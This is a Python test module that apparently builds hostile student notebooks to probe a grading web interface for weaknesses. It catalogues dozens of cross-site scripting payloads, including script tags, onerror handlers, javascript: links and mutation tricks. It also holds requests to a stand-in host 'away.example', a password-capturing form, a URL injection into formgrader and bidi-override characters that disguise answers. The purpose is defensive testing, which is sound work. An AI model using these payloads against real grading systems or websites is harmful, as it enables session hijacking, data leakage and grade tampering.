# SPDX-FileCopyrightText: 2026 The OMS 4.2 authors
# SPDX-License-Identifier: MIT
"""Attacks on the person who marks: what a student writes or prints, to act in the grader's page.

Each attack is one student's notebook. ``HIT`` marks the page of whoever runs it; ``AWAY`` is a
server that no page may ask. An attack has succeeded if the mark is there, if anything was asked of
another server, if a form or field of the student's stands in the page, or if a field of
formgrader's was taken over.
"""

import base64
import json
from collections.abc import Callable
from typing import Any

Cell = dict[str, Any]
AWAY = "http://away.example:81"
HIT = "void(top.document.documentElement.dataset.hit=1)"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>'
_PICTURE = f'<img src="x" onerror="{HIT}">'
_PAGE = f"<script>{HIT}</script><img src={AWAY}/frame>"

# reads 2 + 5, and is 5 + 2: in an answer, one that is not there
TURNED = "\u202e5 + 2\u202c"

# formgrader writes the end of this address into a script of its page: a click, and it runs
OWN = "formgrader/manage_students/%22;document.documentElement.dataset.hit=1;%22"
EVIL_PAGE = f"<!doctype html><title>x</title><script>{HIT}</script>"  # handed in beside the work


def markdown(source: str, **other: Any) -> Cell:
    """A text cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": source, "id": "evil", **other}


def output(*outputs: Cell, **other: Any) -> Cell:
    """A code cell with outputs."""
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1, "id": "evil"}
    return {**cell, "outputs": list(outputs), **other}


def data(kind: str, content: Any, **metadata: Any) -> Cell:
    """A display of one kind."""
    bundle = {kind: content, "text/plain": "x"}
    return {"output_type": "display_data", "data": bundle, "metadata": metadata}


def html(text: str) -> Cell:
    """A code cell that displays HTML."""
    return output(data("text/html", text))


def _vega() -> Cell:
    spec = {"data": {"url": f"{AWAY}/data.json"}, "mark": "bar", "encoding": {}}
    loader = f"<div id=vis></div><script src='{AWAY}/vega.js'></script><script>{HIT}</script>"
    bundle = {"application/vnd.vegalite.v5+json": spec, "text/html": loader}
    return output({"output_type": "display_data", "data": bundle, "metadata": {}})


def _attached() -> Cell:
    picture = base64.b64encode(_SVG.encode()).decode()
    bundle = {"image/svg+xml": picture, 'image/png" onerror="' + HIT + '" x="': "AAAA"}
    return markdown("![a](attachment:a)", attachments={"a": bundle})


def _widget() -> Cell:
    view = {"model_id": f"</script><script>{HIT}</script>", "version_major": 2, "version_minor": 0}
    return output(data("application/vnd.jupyter.widget-view+json", view))


def _traceback() -> Cell:
    lines = [f"\x1b[31m<img src=x onerror={HIT}>\x1b[0m", f"<script>{HIT}</script>"]
    return output({"output_type": "error", "ename": "<b>", "evalue": "<i>", "traceback": lines})


def _named(**settings: Any) -> Cell:
    nbgrader = {"grade": True, "solution": True, "locked": False, "schema_version": 3, "points": 1}
    evil = f'q9"><img src=x onerror="{HIT}">'
    return {**markdown("x"), "metadata": {"nbgrader": {**nbgrader, "grade_id": evil, **settings}}}


def _number() -> Cell:
    return output(execution_count=f"<img src=x onerror={HIT}>")


# name, what the student writes; the marker's page is then opened and every link of it clicked
ATTACKS: dict[str, Callable[[], Cell]] = {
    "html-script": lambda: html(f"<script>{HIT}</script>"),
    "html-handler": lambda: html(f"<img src=x onerror={HIT}>"),
    "html-svg": lambda: html(_SVG),
    "html-math": lambda: html(f"<math><mi><style><img src=x onerror={HIT}></style></mi></math>"),
    "html-mutation": lambda: html(
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>"
    ),
    "html-template": lambda: html(f"<template><x></template><svg/onload={HIT}>"),
    "html-details": lambda: html(f"<details open ontoggle={HIT}>x</details>"),
    "html-link": lambda: html(f'<a href="javascript:{HIT}">see my chart</a>'),
    "html-link-entity": lambda: html(f'<a href="java&#9;script&colon;{HIT}">see my chart</a>'),
    "html-data-link": lambda: html(f'<a href="data:text/html,{_PAGE}">see my chart</a>'),
    "html-frame": lambda: html(f'<iframe srcdoc="{_PAGE}"></iframe>'),
    "html-object": lambda: html(f'<object data="{AWAY}/o"></object><embed src="{AWAY}/e">'),
    "html-refresh": lambda: html(f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">'),
    "html-base": lambda: html(f'<base href="{AWAY}/base/"><img src="relative.png">'),
    "html-form": lambda: html(f'<form action="{AWAY}/f"><input name="password"></form>'),
    "html-import": lambda: html(f"<style>@import '{AWAY}/i.css';</style>"),
    "html-style-url": lambda: html(f'<p style="background:url({AWAY}/s.png)">x</p>'),
    "html-picture": lambda: html(f'<img src="{AWAY}/seen.png" srcset="{AWAY}/two.png 2x">'),
    "html-media": lambda: html(f'<video poster="{AWAY}/p.png" src="{AWAY}/v.mp4"></video>'),
    "html-link-sheet": lambda: html(f'<link rel="stylesheet" href="{AWAY}/l.css">'),
    "html-cover": lambda: html('<div style="position:fixed;inset:0;z-index:9999">0 points</div>'),
    "html-clobber": lambda: html('<p class="nbgrader_cell"><input id="q3" class="score"></p>'),
    "isolated-frame": lambda: output(
        data("text/html", f"<img src={AWAY}/isolated>", **{"text/html": {"isolated": True}})
    ),
    "javascript": lambda: output(data("application/javascript", HIT)),
    "svg-output": lambda: output(data("image/svg+xml", _SVG)),
    "json-output": lambda: output(data("application/json", f"<script>{HIT}</script>")),
    "latex-output": lambda: output(data("text/latex", f"$x$<img src=x onerror={HIT}>")),
    "latex-href": lambda: markdown(rf"$\href{{javascript:{HIT}}}{{\text{{see}}}}$"),
    "math-markup": lambda: markdown(f"$$x {_PICTURE}$$"),
    "markdown-output": lambda: output(data("text/markdown", _PICTURE)),
    "markdown-handler": lambda: markdown(_PICTURE),
    "markdown-script": lambda: markdown(f"<script>{HIT}</script>"),
    "markdown-html-link": lambda: markdown(f'<a href="javascript:{HIT}">see my chart</a>'),
    "markdown-frame": lambda: markdown(f'<iframe srcdoc="{_PAGE}"></iframe>'),
    "markdown-link": lambda: markdown(f"[see my chart](javascript:{HIT})"),
    "markdown-own-server": lambda: markdown(f"[see my chart](http://localhost:1/{OWN})"),
    "markdown-file": lambda: markdown("[see my chart](evil.html)"),
    "html-file": lambda: html('<a href="evil.html">see my chart</a>'),
    "html-file-frame": lambda: html('<iframe src="evil.html"></iframe>'),
    "markdown-picture": lambda: markdown(f"![chart]({AWAY}/picture.png)"),
    "markdown-fence": lambda: markdown(f'``` "><script>{HIT}</script>\nx\n```'),
    "raw-cell": lambda: {**markdown(_PICTURE), "cell_type": "raw"},
    "turned-source": lambda: output(source=f"pay = '{TURNED}'"),
    "turned-text": lambda: output({"output_type": "stream", "name": "stdout", "text": TURNED}),
    "turned-html": lambda: html(f"<b>{TURNED}</b> and &#x202e;5 + 2&#8236;"),
    "turned-markdown": lambda: markdown(f"{TURNED} and &#x202e;5 + 2&#8236;"),
    "plain-text": lambda: output(
        {"output_type": "stream", "name": "stdout", "text": f"<img src=x onerror={HIT}>"}
    ),
    "traceback": _traceback,
    "picture-width": lambda: output(
        data("image/png", "AAAA", **{"image/png": {"width": f"1 onerror={HIT}"}})
    ),
    "picture-data": lambda: output(data("image/png", f'" onerror="{HIT}" x="')),
    "cell-tags": lambda: output(metadata={"tags": [f'x">{_PICTURE}']}),
    "hidden-source": lambda: output(metadata={"transient": {"remove_source": True}}, source="SEE"),
    "vega": _vega,
    "widget": _widget,
    "attachment": _attached,
    "cell-name": _named,
    "cell-number": _number,
}


def notebook(right: Cell, attack: str) -> Cell:
    """Put an attack into a notebook that is right otherwise.

    Args:
        right: A notebook with right answers.
        attack: One of :data:`ATTACKS`, or a name of its own for the settings of the notebook.

    Returns:
        The notebook to hand in.
    """
    made: Cell = json.loads(json.dumps(right))
    if attack in ATTACKS:
        made["cells"].append(ATTACKS[attack]())
    made["metadata"]["title"] = f"</title><script>{HIT}</script>"
    made["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": f"</script><script>{HIT}</script>"}
    }
    return made
